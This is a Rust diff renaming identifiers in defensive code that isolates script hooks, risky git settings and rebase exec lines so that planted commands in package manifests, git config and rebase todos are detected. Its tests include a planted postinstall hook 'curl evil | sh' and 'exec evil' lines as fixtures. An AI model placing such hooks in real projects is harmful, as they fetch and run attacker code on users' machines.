@@ -9,12 +9,12 @@ use serde::de::{Error as _, MapAccess, Visitor};
 use serde::{Deserialize, Deserializer, Serialize};
 use serde_json::Value;
 
-use super::state::State;
-use crate::permission::{canonical, lowered};
+use super::file_state::FileState;
+use crate::permission::{canonical_json, normalize_name};
 
 /// What of a file counts.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
-pub(super) enum Counts {
+pub(super) enum RelevantPart {
     /// All of it.
     Whole,
     /// What a package runs when it is built, tested, installed or committed to.
@@ -26,7 +26,7 @@ pub(super) enum Counts {
 }
 
 /// Fields of `package.json` and `composer.json` that name something to run.
-const JSON_FIELDS: [&str; 10] = [
+const JSON_SCRIPT_FIELDS: [&str; 10] = [
     "scripts",
     "tasks",
     "husky",
@@ -40,7 +40,7 @@ const JSON_FIELDS: [&str; 10] = [
 ];
 
 /// Tables of `pyproject.toml` that do.
-const TOML_TABLES: [&[&str]; 6] = [
+const TOML_SCRIPT_TABLES: [&[&str]; 6] = [
     &["build-system"],
     &["tool", "poe"],
     &["tool", "taskipy"],
@@ -50,7 +50,7 @@ const TOML_TABLES: [&[&str]; 6] = [
 ];
 
 /// Settings of git that run nothing, whatever they say.
-const HARMLESS: [(&str, &[&str]); 8] = [
+const HARMLESS_GIT_SETTINGS: [(&str, &[&str]); 8] = [
     (
         "core",
         &[
@@ -74,35 +74,35 @@ const HARMLESS: [(&str, &[&str]); 8] = [
     ("extensions", &["objectformat"]),
 ];
 
-impl Counts {
+impl RelevantPart {
     /// True if nothing that counts differs.
-    pub(super) fn is_same(self, path: &Path, one: &State, other: &State) -> bool {
+    pub(super) fn is_same(self, path: &Path, one: &FileState, other: &FileState) -> bool {
         match (self, one.text(), other.text()) {
             (Self::Whole, ..) | (_, None, _) | (_, _, None) => one.is_same(other),
             (Self::Scripts | Self::GitSettings | Self::RebaseCommands, Some(one), Some(other)) => {
-                self.part(path, one) == self.part(path, other)
+                self.extract(path, one) == self.extract(path, other)
             }
         }
     }
 
     /// True if there is nothing in it that counts: such a file may come and go.
-    pub(super) fn is_empty(self, path: &Path, state: &State) -> bool {
-        self != Self::Whole && state.text().is_some_and(|text| self.part(path, text).is_empty())
+    pub(super) fn is_irrelevant(self, path: &Path, state: &FileState) -> bool {
+        self != Self::Whole && state.text().is_some_and(|text| self.extract(path, text).is_empty())
     }
 
     /// What of the text counts, in a form in which equal things are equal texts.
-    pub(super) fn part(self, path: &Path, text: &str) -> String {
+    pub(super) fn extract(self, path: &Path, text: &str) -> String {
         match self {
             Self::Whole => text.to_owned(),
-            Self::Scripts => scripts(path.file_name().unwrap_or(OsStr::new("")), text),
-            Self::GitSettings => git_settings(text),
-            Self::RebaseCommands => lines(text.lines().filter(|line| executes(line)).map(str::to_owned)),
+            Self::Scripts => package_scripts(path.file_name().unwrap_or(OsStr::new("")), text),
+            Self::GitSettings => risky_git_settings(text),
+            Self::RebaseCommands => join_lines(text.lines().filter(|line| is_exec_line(line)).map(str::to_owned)),
         }
     }
 }
 
-fn scripts(name: &OsStr, text: &str) -> String {
-    match lowered(name).ends_with(".toml") {
+fn package_scripts(name: &OsStr, text: &str) -> String {
+    match normalize_name(name).ends_with(".toml") {
         true => toml_scripts(text),
         false => json_scripts(text),
     }
@@ -111,8 +111,10 @@ fn scripts(name: &OsStr, text: &str) -> String {
 
 fn json_scripts(text: &str) -> Option<String> {
     let Fields(fields) = serde_json::from_str(text).ok()?;
-    let named = JSON_FIELDS.iter().filter_map(|name| Some((name, fields.get(*name).filter(|value| !is_void(value))?)));
-    Some(lines(named.map(|(name, value)| format!("{name}: {}", canonical(value)))))
+    let named = JSON_SCRIPT_FIELDS
+        .iter()
+        .filter_map(|name| Some((name, fields.get(*name).filter(|value| !is_empty_value(value))?)));
+    Some(join_lines(named.map(|(name, value)| format!("{name}: {}", canonical_json(value)))))
 }
 
 /// The fields of an object. One that is there twice is read by some as the first and by others as the last: such a text
@@ -146,19 +148,19 @@ impl<'de> Deserialize<'de> for Fields {
 fn toml_scripts(text: &str) -> Option<String> {
     let table: toml::Table = text.parse().ok()?;
     let table = serde_json::to_value(table).ok()?;
-    let named = TOML_TABLES.iter().filter_map(|path| {
+    let named = TOML_SCRIPT_TABLES.iter().filter_map(|path| {
         let value = path.iter().try_fold(&table, |value, name| value.get(name))?;
-        Some(format!("{}: {}", path.join("."), canonical(value)))
+        Some(format!("{}: {}", path.join("."), canonical_json(value)))
     });
-    Some(lines(named))
+    Some(join_lines(named))
 }
 
-fn is_void(value: &Value) -> bool {
+fn is_empty_value(value: &Value) -> bool {
     value.is_null() || value.as_object().is_some_and(serde_json::Map::is_empty)
 }
 
 /// Every line but those that are understood and harmless.
-fn git_settings(text: &str) -> String {
+fn risky_git_settings(text: &str) -> String {
     let mut section = String::new();
     let counted = text.lines().filter_map(|line| {
         let line = line.trim();
@@ -172,31 +174,31 @@ fn git_settings(text: &str) -> String {
             return header.contains(']').then_some(()).filter(|()| !header.ends_with(']')).map(|()| line.to_owned());
         }
         let (key, value) = line.split_once('=').map_or((line, ""), |(key, value)| (key.trim(), value.trim()));
-        let harmless = !line.ends_with('\\') && is_harmless(&section, &key.to_lowercase(), value);
+        let harmless = !line.ends_with('\\') && is_harmless_setting(&section, &key.to_lowercase(), value);
         (!harmless).then(|| format!("{section}.{key}={value}"))
     });
-    lines(counted)
+    join_lines(counted)
 }
 
-fn is_harmless(section: &str, key: &str, value: &str) -> bool {
-    let known = HARMLESS.iter().any(|(name, keys)| *name == section && keys.contains(&key));
+fn is_harmless_setting(section: &str, key: &str, value: &str) -> bool {
+    let known = HARMLESS_GIT_SETTINGS.iter().any(|(name, keys)| *name == section && keys.contains(&key));
     let address = ["remote", "submodule"].contains(&section) && ["url", "pushurl"].contains(&key);
-    known || (address && is_plain_address(value))
+    known || (address && is_plain_remote_url(value))
 }
 
 /// An address that is only fetched from: nothing on this machine, and no helper program.
-fn is_plain_address(value: &str) -> bool {
+fn is_plain_remote_url(value: &str) -> bool {
     let schemes = ["https://", "http://", "ssh://", "git://"];
     let behind = schemes.iter().find_map(|scheme| value.strip_prefix(scheme));
     let host = behind.or_else(|| value.split_once('@').map(|(_, host)| host).filter(|host| host.contains(':')));
     !value.contains("::") && host.is_some_and(|host| !host.starts_with('-') && !host.contains("@-"))
 }
 
-fn executes(line: &str) -> bool {
+fn is_exec_line(line: &str) -> bool {
     matches!(line.split_whitespace().next(), Some("exec" | "x"))
 }
 
-fn lines(lines: impl Iterator<Item = String>) -> String {
+fn join_lines(lines: impl Iterator<Item = String>) -> String {
     lines.collect::<Vec<_>>().join("\n")
 }
 
@@ -204,8 +206,8 @@ fn lines(lines: impl Iterator<Item = String>) -> String {
 mod tests {
     use super::*;
 
-    fn part(counts: Counts, name: &str, text: &str) -> String {
-        counts.part(Path::new(name), text)
+    fn part(relevant: RelevantPart, name: &str, text: &str) -> String {
+        relevant.extract(Path::new(name), text)
     }
 
     #[test]
@@ -213,7 +215,7 @@ mod tests {
         let old = r#"{"name":"a","dependencies":{"x":"1"},"scripts":{"test":"jest"}}"#;
         let newer = r#"{"scripts": {"test": "jest"}, "name":"a","dependencies":{"x":"2"}}"#;
         let planted = r#"{"name":"a","scripts":{"test":"jest","postinstall":"curl evil | sh"}}"#;
-        let json = |text| part(Counts::Scripts, "package.json", text);
+        let json = |text| part(RelevantPart::Scripts, "package.json", text);
         assert_eq!(json(old), r#"scripts: {"test":"jest"}"#);
         assert_eq!(json(old), json(newer));
         assert_ne!(json(old), json(planted));
@@ -221,14 +223,14 @@ mod tests {
         assert_eq!(json("{ not json"), "{ not json");
         let twice = r#"{"scripts":{"test":"jest"},"scripts":{"test":"evil"}}"#;
         assert_eq!(json(twice), twice, "who reads it decides what it means");
-        let toml = |text| part(Counts::Scripts, "pyproject.toml", text);
+        let toml = |text| part(RelevantPart::Scripts, "pyproject.toml", text);
         assert_eq!(toml("[project]\nname = 'a'\ndependencies = ['x']"), "");
         assert_eq!(toml("[tool.poe.tasks]\nt = 'evil'"), r#"tool.poe: {"tasks":{"t":"evil"}}"#);
     }
 
     #[test]
     fn settings_of_git_that_run_nothing_do_not_count() {
-        let settings = |text| part(Counts::GitSettings, "config", text);
+        let settings = |text| part(RelevantPart::GitSettings, "config", text);
         let fresh = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote \"origin\"]\n\
                      \turl = git@example.org:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n\
                      [branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n[user]\nname = A\n";
@@ -251,6 +253,6 @@ mod tests {
     #[test]
     fn of_a_rebase_only_its_commands_count() {
         let todo = "pick 1234 one\nexec evil\n# x comment\nx again\n";
-        assert_eq!(part(Counts::RebaseCommands, "git-rebase-todo", todo), "exec evil\nx again");
+        assert_eq!(part(RelevantPart::RebaseCommands, "git-rebase-todo", todo), "exec evil\nx again");
     }
 }
